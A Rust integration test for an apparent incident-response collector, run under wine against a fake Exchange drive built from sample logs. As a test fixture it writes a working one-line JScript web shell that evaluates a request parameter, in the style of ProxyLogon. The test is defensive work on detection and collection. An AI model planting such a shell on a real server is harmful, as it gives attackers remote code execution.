//! The Windows collector under wine, on a fake Exchange `C:` drive made of real Exchange logs.
//!
//! Needs `wine` (Debian's `wine64`), `x86_64-w64-mingw32-gcc` and the Windows lean exe:
//! `$MAILIR_WINDOWS_EXE`, else cross-built here with
//! `cargo build --no-default-features --target x86_64-pc-windows-gnu` into a target folder of
//! its own. Without any of them the test says so loudly on stderr and passes; `.ci/run`
//! installs them. With `MAILIR_REQUIRE_WINE=1` a missing piece fails the test instead.
//!
//! In a fresh `WINEPREFIX` it lays out `C:\Program Files\Microsoft\Exchange Server\V15` with
//! the HttpProxy (OWA, ECP), ECP server, OABGenerator and message-tracking logs and the IIS log
//! of `samples/exchange-exports/exch01`, a web shell in `C:\inetpub\wwwroot\aspnet_client`, an
//! OWA `logon.aspx`, a raw `Security.evtx`, and a stand-in `wevtutil.exe`
//! (`tests/fixtures/windows/fake_wevtutil.c`: wine's own `wevtutil epl` writes nothing), then
//! runs the live collection (root `C:\`, volatile commands on) into a `.zip` and a folder,
//! `verify` under wine and the Linux binary's `verify` on both, and checks the rows.
//!
//! wine 8 lacks `bcryptprimitives.dll` (Rust's standard library imports `ProcessPrng` from
//! it); `tests/fixtures/windows/bcryptprimitives.c` forwards it to `RtlGenRandom` and is put
//! beside the exe in the prefix only.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::util::{self, run_cmd};

const V15: &str = "/Program Files/Microsoft/Exchange Server/V15";

fn sha(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn on_path(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|p| std::env::split_paths(&p).any(|d| d.join(program).is_file()))
}

/// Skips (or, with `MAILIR_REQUIRE_WINE=1`, fails) loudly.
fn skip(why: &str) {
    let msg = format!("SKIPPED windows_wine: {why}");
    if std::env::var("MAILIR_REQUIRE_WINE").as_deref() == Ok("1") {
        panic!("{msg} (MAILIR_REQUIRE_WINE=1)");
    }
    eprintln!("\n*** {msg} ***\n");
}

/// The Windows lean exe: given, or cross-built into a target folder of its own.
fn windows_exe() -> Result<PathBuf, String> {
    if let Some(p) = std::env::var_os("MAILIR_WINDOWS_EXE") {
        let p = PathBuf::from(p);
        return if p.is_file() {
            Ok(p)
        } else {
            Err(format!("MAILIR_WINDOWS_EXE={} does not exist", p.display()))
        };
    }
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("wine-cross");
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let mut c = Command::new(cargo);
    c.current_dir(util::repo())
        .args([
            "build",
            "--no-default-features",
            "--target",
            "x86_64-pc-windows-gnu",
        ])
        .env("CARGO_TARGET_DIR", &target);
    let o = run_cmd(c, Duration::from_secs(1200));
    if o.code != 0 {
        return Err(format!(
            "cross-build for x86_64-pc-windows-gnu failed (rustup target add x86_64-pc-windows-gnu; apt-get install gcc-mingw-w64-x86-64): {}",
            o.stderr.lines().rev().take(5).collect::<Vec<_>>().join(" | ")
        ));
    }
    Ok(target.join("x86_64-pc-windows-gnu/debug/mailir.exe"))
}

struct Wine {
    prefix: PathBuf,
}

impl Wine {
    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new("wine");
        c.args(args)
            .env("WINEPREFIX", &self.prefix)
            .env("WINEDEBUG", "-all")
            // No Mono/Gecko installers; the stand-in wevtutil.exe rather than wine's builtin.
            .env("WINEDLLOVERRIDES", "mscoree,mshtml=;wevtutil.exe=n")
            .env(
                "ExchangeInstallPath",
                "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\",
            )
            .env_remove("DISPLAY");
        c
    }

    fn run(&self, args: &[&str]) -> util::Output {
        run_cmd(self.cmd(args), Duration::from_secs(300))
    }
}

impl Drop for Wine {
    fn drop(&mut self) {
        let mut c = Command::new("wineserver");
        c.arg("-k").env("WINEPREFIX", &self.prefix);
        let _ = c.status();
    }
}

/// `Z:\…` of a Linux path (wine maps `Z:` to `/`).
fn z(p: &Path) -> String {
    format!("Z:{}", p.display()).replace('/', "\\")
}

fn mingw(src: &str, out: &Path, extra: &[&str]) {
    let mut c = Command::new("x86_64-w64-mingw32-gcc");
    c.arg("-O2")
        .arg("-o")
        .arg(out)
        .arg(util::repo().join("tests/fixtures/windows").join(src))
        .args(extra);
    let o = run_cmd(c, Duration::from_secs(120));
    assert_eq!(o.code, 0, "mingw build of {src}: {}", o.stderr);
}

fn put(drive: &Path, host: &str, bytes: &[u8]) {
    let p = drive.join(host.trim_start_matches('/'));
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

fn row<'a>(rows: &'a [Value], source: &str) -> &'a Value {
    util::row(rows, source)
}

#[test]
fn exchange_host_collected_under_wine() {
    if !on_path("wine") {
        return skip("wine is not installed (apt-get install wine64)");
    }
    if !on_path("x86_64-w64-mingw32-gcc") {
        return skip(
            "x86_64-w64-mingw32-gcc is not installed (apt-get install gcc-mingw-w64-x86-64)",
        );
    }
    let exe = match windows_exe() {
        Ok(e) => e,
        Err(why) => return skip(&why),
    };
    let t = tempfile::tempdir().unwrap();
    let wine = Wine {
        prefix: t.path().join("prefix"),
    };
    let started = Instant::now();
    let init = wine.run(&["cmd", "/c", "exit"]);
    assert_eq!(init.code, 0, "wine prefix init: {}", init.stderr);
    eprintln!(
        "windows_wine: wine prefix initialised in {:.1} s",
        started.elapsed().as_secs_f64()
    );
    let drive = wine.prefix.join("drive_c");
    assert!(drive.join("windows/system32").is_dir());

    // The exe, the ProcessPrng shim and the stand-in wevtutil.
    fs::copy(&exe, drive.join("mailir.exe")).unwrap();
    mingw(
        "bcryptprimitives.c",
        &drive.join("bcryptprimitives.dll"),
        &["-shared", "-ladvapi32"],
    );
    mingw(
        "fake_wevtutil.c",
        &drive.join("windows/system32/wevtutil.exe"),
        &[],
    );

    // A fake Exchange drive of real log lines.
    let samples = util::repo().join("samples/exchange-exports/exch01");
    let logs = [
        (
            "Logging/HttpProxy/Owa/HttpProxy_2026030300-1.LOG",
            format!("{V15}/Logging/HttpProxy/Owa/HttpProxy_2026030300-1.LOG"),
        ),
        (
            "Logging/HttpProxy/Ecp/HttpProxy_2026030300-1.LOG",
            format!("{V15}/Logging/HttpProxy/Ecp/HttpProxy_2026030300-1.LOG"),
        ),
        (
            "Logging/ECP/Server/ECPServer2026030300-1.LOG",
            format!("{V15}/Logging/ECP/Server/ECPServer2026030300-1.LOG"),
        ),
        (
            "Logging/OABGeneratorLog/OABGenerator2026030300-1.LOG",
            format!("{V15}/Logging/OABGeneratorLog/OABGenerator2026030300-1.LOG"),
        ),
        (
            "Logging/MessageTracking/MSGTRK2026030300-1.LOG",
            format!("{V15}/TransportRoles/Logs/MessageTracking/MSGTRK2026030300-1.LOG"),
        ),
        (
            "W3SVC1/u_ex260303.log",
            "/inetpub/logs/LogFiles/W3SVC1/u_ex260303.log".to_string(),
        ),
    ];
    let mut want = Vec::new();
    for (from, to) in &logs {
        let bytes = fs::read(samples.join(from)).unwrap();
        put(&drive, to, &bytes);
        want.push((to.clone(), sha(&bytes)));
    }
    // The sample's story: ProxyLogon's JScript shell written into aspnet_client.
    let shell: &[u8] = b"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"Xs9t2k\"],\"unsafe\");}</script>";
    let shell_path = "/inetpub/wwwroot/aspnet_client/system_web/Xs9t2k.aspx";
    put(&drive, shell_path, shell);
    let logon: &[u8] = b"<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n";
    put(
        &drive,
        &format!("{V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx"),
        logon,
    );
    // A raw event log file the (absent) Event Log service does not lock, and the export
    // fixture the stand-in wevtutil hands back for the Security channel.
    let raw_evtx = [
        b"ElfFile\0".as_slice(),
        &[0u8; 120],
        b"raw Security.evtx of the fake drive",
    ]
    .concat();
    put(
        &drive,
        "/windows/system32/winevt/Logs/Security.evtx",
        &raw_evtx,
    );
    let exported = [
        b"ElfFile\0".as_slice(),
        &[0u8; 120],
        b"Security channel as exported by wevtutil epl",
    ]
    .concat();
    put(&drive, "/mailir-fixtures/evtx/Security.evtx", &exported);

    let out = t.path().join("out");
    fs::create_dir(&out).unwrap();
    let zip = out.join("exch01.zip");
    let dir = out.join("exch01-dir");
    let o = wine.run(&[
        "C:\\mailir.exe",
        "collect",
        "--out",
        &z(&zip),
        "--case",
        "IR-WINE-1",
    ]);
    assert_eq!(
        o.code, 0,
        "collect (zip) under wine: {}\n{}",
        o.stdout, o.stderr
    );
    let o = wine.run(&[
        "C:\\mailir.exe",
        "collect",
        "--out",
        &z(&dir),
        "--no-volatile",
    ]);
    assert_eq!(
        o.code, 0,
        "collect (dir) under wine: {}\n{}",
        o.stdout, o.stderr
    );
    let calls = fs::read_to_string(drive.join("mailir-fixtures/wevtutil.log")).unwrap();
    assert!(
        calls
            .lines()
            .any(|l| l.starts_with("epl|Security|Z:") && l.contains(".mailir-evtx-")),
        "wevtutil exports into a folder beside the bundle, not onto C: {calls}"
    );
    assert!(
        fs::read_dir(&out).unwrap().all(|e| !e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with(".mailir-evtx")),
        "the export folder is removed"
    );

    for bundle in [&zip, &dir] {
        let shown = bundle.display();
        let v = wine.run(&["C:\\mailir.exe", "verify", &z(bundle)]);
        assert_eq!(
            v.code, 0,
            "verify under wine of {shown}: {}\n{}",
            v.stdout, v.stderr
        );
        assert!(v.stdout.contains("intact"), "{}", v.stdout);
        let v = util::run(&["verify", bundle.to_str().unwrap()]);
        assert_eq!(
            v.code, 0,
            "Linux verify of {shown}: {}\n{}",
            v.stdout, v.stderr
        );

        let rows = util::manifest(bundle);
        let entries = util::entries(bundle);
        for (path, hash) in &want {
            let r = row(&rows, path);
            assert_eq!(r["outcome"], "collected", "{r}");
            assert_eq!(r["sha256"], hash.as_str(), "{path}");
            let stored = r["stored"].as_str().unwrap();
            assert_eq!(stored, format!("files{path}"));
            assert_eq!(sha(&entries[stored]), *hash, "stored bytes of {path}");
        }
        let proxy = row(
            &rows,
            &format!("{V15}/Logging/HttpProxy/Owa/HttpProxy_2026030300-1.LOG"),
        );
        assert_eq!(proxy["category"], "mail_log");
        assert_eq!(proxy["recognised_as"], "exchange_httpproxy");
        assert!(
            proxy["inode"].is_u64() && proxy["dev"].is_u64(),
            "file id from the handle: {proxy}"
        );
        assert!(proxy["mode"].is_null() && proxy["uid"].is_null());
        assert_eq!(
            row(&rows, "/inetpub/logs/LogFiles/W3SVC1/u_ex260303.log")["recognised_as"],
            "iis_w3c"
        );
        assert_eq!(
            row(
                &rows,
                &format!("{V15}/TransportRoles/Logs/MessageTracking/MSGTRK2026030300-1.LOG")
            )["recognised_as"],
            "exchange_message_tracking"
        );
        let sh = row(&rows, shell_path);
        assert_eq!(sh["category"], "web_root");
        assert_eq!(sh["outcome"], "collected");
        assert_eq!(sh["sha256"], sha(shell).as_str());
        assert_eq!(
            row(
                &rows,
                &format!("{V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx")
            )["sha256"],
            sha(logon).as_str()
        );
        // Folders the fake drive lacks: a row each, nothing silent.
        for missing in [
            format!("{V15}/TransportRoles/Logs/Edge/ProtocolLog"),
            format!("{V15}/Logging/CmdletInfra"),
            "/Windows/System32/winevt/Logs/MSExchange Management.evtx".to_string(),
        ] {
            assert_eq!(row(&rows, &missing)["outcome"], "missing", "{missing}");
        }
        let raw = row(&rows, "/Windows/System32/winevt/Logs/Security.evtx");
        assert_eq!(
            (raw["category"].as_str(), raw["outcome"].as_str()),
            (Some("event_log"), Some("collected"))
        );
        assert_eq!(raw["sha256"], sha(&raw_evtx).as_str());
        let ex = row(&rows, "eventlog:Security");
        assert_eq!(ex["outcome"], "collected", "{ex}");
        assert_eq!(ex["exported_by"], "wevtutil epl Security");
        assert_eq!(ex["stored"], "eventlogs/Security.evtx");
        assert_eq!(ex["sha256"], sha(&exported).as_str());
        assert_eq!(entries["eventlogs/Security.evtx"], exported);
        let sysmon = row(&rows, "eventlog:Microsoft-Windows-Sysmon/Operational");
        assert_eq!(sysmon["outcome"], "missing", "{sysmon}");

        let custody: Value = serde_json::from_slice(&entries["custody.json"]).unwrap();
        assert_eq!(custody["live"], true);
        assert_eq!(custody["root"], "C:\\");
        assert!(custody["run_as"]["uid"].is_null());
        // The collector's own hash is the exe's, as `sha256sum` gives it.
        assert_eq!(
            custody["collector"]["sha256"],
            sha(&fs::read(&exe).unwrap()).as_str(),
            "{}",
            custody["collector"]
        );
        assert!(custody["collector"]["loader"].is_null());
        assert!(
            custody["host"]["hostname"].is_string(),
            "COMPUTERNAME: {}",
            custody["host"]
        );
        assert!(
            custody["run_as"]["user"].is_string(),
            "{}",
            custody["run_as"]
        );
    }
    // The full build reads the Windows bundle's Exchange and IIS logs like exported ones: the
    // sample's ProxyLogon chain is found in it. Only with the analysis stack (`.ci/run`); it
    // was checked by hand with a full build of main on a bundle made like this one.
    #[cfg(feature = "analysis")]
    {
        let d = util::run(&["detect", zip.to_str().unwrap(), "--format", "text"]);
        for rule in [
            "exchange.proxylogon_ssrf",
            "exchange.webshell",
            "exchange.proxylogon_ecp_write",
            "exchange.proxylogon_oab_write",
        ] {
            assert!(
                d.stdout.contains(rule),
                "detect on the Windows bundle misses {rule}:\n{}\n{}",
                d.stdout,
                d.stderr
            );
        }
    }
    // Volatile commands ran from C:\windows\system32 in the zip run.
    let rows = util::manifest(&zip);
    let ipconfig = row(&rows, "command:ipconfig /all (stdout)");
    assert_eq!(ipconfig["outcome"], "collected", "{ipconfig}");
    assert!(ipconfig["size"].as_u64().unwrap() > 0);
    eprintln!(
        "windows_wine: {} rows in the zip bundle, whole test {:.1} s",
        rows.len(),
        started.elapsed().as_secs_f64()
    );
}
